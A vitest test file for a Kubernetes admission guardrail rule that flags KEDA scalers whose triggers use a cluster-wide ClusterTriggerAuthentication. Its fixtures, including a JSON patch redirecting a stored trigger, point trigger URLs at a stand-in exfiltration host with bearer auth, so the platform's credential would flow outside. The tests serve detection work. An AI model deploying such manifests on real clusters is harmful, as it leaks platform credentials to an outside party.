import { describe, expect, it } from 'vitest';
import { inspect } from '../../src/guardrails/inspect.js';
import type { GuardrailResult } from '../../src/guardrails/types.js';
import { exfilScaledObject, scaledObject } from '../support/workday22.js';
import { guardSettings, kube, toYaml } from '../support/guardrails.js';

/**
 * keda_cluster_trigger_auth (src/guardrails/rules/keda.ts): a KEDA trigger authenticated by a
 * ClusterTriggerAuthentication is handed the platform's credential, which goes where the trigger
 * says; the namespace's own TriggerAuthentication, or none, hands over nothing the writer lacks.
 */

const settings = guardSettings();
const codes = (r: GuardrailResult) => r.violations.map((v) => v.code);
const SO = (ns: string) => `/apis/keda.sh/v1alpha1/namespaces/${ns}/scaledobjects`;
const write = (method: string, path: string, body: unknown, type = 'application/json') => inspect(kube(method, path), type === 'application/yaml' ? toYaml(body) : JSON.stringify(body), type, false, settings);
const EXFIL = 'https://metrics.basketry-cdn.example/v1/queue';

describe('keda_cluster_trigger_auth', () => {
  it('is a trigger naming a ClusterTriggerAuthentication, created, merge-patched or applied', () => {
    expect(codes(write('POST', SO('prod-catalog'), exfilScaledObject('prod-catalog', 'catalog-api', EXFIL)))).toEqual(['keda_cluster_trigger_auth']);
    expect(codes(write('PATCH', `${SO('prod-catalog')}/catalog-api`, exfilScaledObject('prod-catalog', 'catalog-api', EXFIL), 'application/merge-patch+json'))).toEqual(['keda_cluster_trigger_auth']);
    expect(codes(write('PATCH', `${SO('prod-catalog')}/catalog-api?fieldManager=kubectl`, exfilScaledObject('prod-catalog', 'catalog-api', EXFIL), 'application/apply-patch+yaml'))).toEqual(['keda_cluster_trigger_auth']);
    const job = { apiVersion: 'keda.sh/v1alpha1', kind: 'ScaledJob', metadata: { name: 'drain' }, spec: { jobTargetRef: { template: { spec: { containers: [{ name: 'w', image: 'registry.example.com/w:1' }] } } }, triggers: [{ type: 'prometheus', metadata: { serverAddress: EXFIL, query: 'up', threshold: '1', authModes: 'bearer' }, authenticationRef: { name: 'psp-api', kind: 'ClusterTriggerAuthentication' } }] } };
    expect(codes(write('POST', '/apis/keda.sh/v1alpha1/namespaces/dev-a/scaledjobs', job, 'application/yaml'))).toEqual(['keda_cluster_trigger_auth']);
  });

  it("is nothing for the namespace's own TriggerAuthentication, or a trigger without one", () => {
    expect(codes(write('PATCH', `${SO('prod-catalog')}/catalog-api`, scaledObject('prod-catalog', 'catalog-api', 10, 120), 'application/merge-patch+json'))).toEqual([]);
    const own = scaledObject('prod-catalog', 'catalog-api', 10, 120, [{ type: 'rabbitmq', metadata: { queueName: 'orders', mode: 'QueueLength', value: '50' }, authenticationRef: { name: 'rabbitmq-conn' } }]);
    expect(codes(write('POST', SO('prod-catalog'), own))).toEqual([]);
    const named = scaledObject('prod-catalog', 'catalog-api', 10, 120, [{ type: 'rabbitmq', metadata: { queueName: 'orders' }, authenticationRef: { name: 'rabbitmq-conn', kind: 'TriggerAuthentication' } }]);
    expect(codes(write('POST', SO('prod-catalog'), named))).toEqual([]);
  });

  it("takes a JSON patch changing a stored trigger without showing its authentication as keeping a cluster-wide one", () => {
    const redirect = [{ op: 'replace', path: '/spec/triggers/1/metadata/url', value: EXFIL }];
    expect(codes(write('PATCH', `${SO('prod-catalog')}/catalog-api`, redirect, 'application/json-patch+json'))).toEqual(['keda_cluster_trigger_auth']);
    const bounds = [{ op: 'replace', path: '/spec/maxReplicaCount', value: 200 }];
    expect(codes(write('PATCH', `${SO('prod-catalog')}/catalog-api`, bounds, 'application/json-patch+json'))).toEqual([]);
  });

  it('reads any kind KEDA does not take as the namespace\'s own as cluster-wide', () => {
    const odd = scaledObject('prod-catalog', 'catalog-api', 1, 2, [{ type: 'metrics-api', metadata: { url: EXFIL }, authenticationRef: { name: 'psp-api', kind: 'clustertriggerauthentication' } }]);
    expect(codes(write('POST', SO('prod-catalog'), odd))).toEqual(['keda_cluster_trigger_auth']);
  });
});
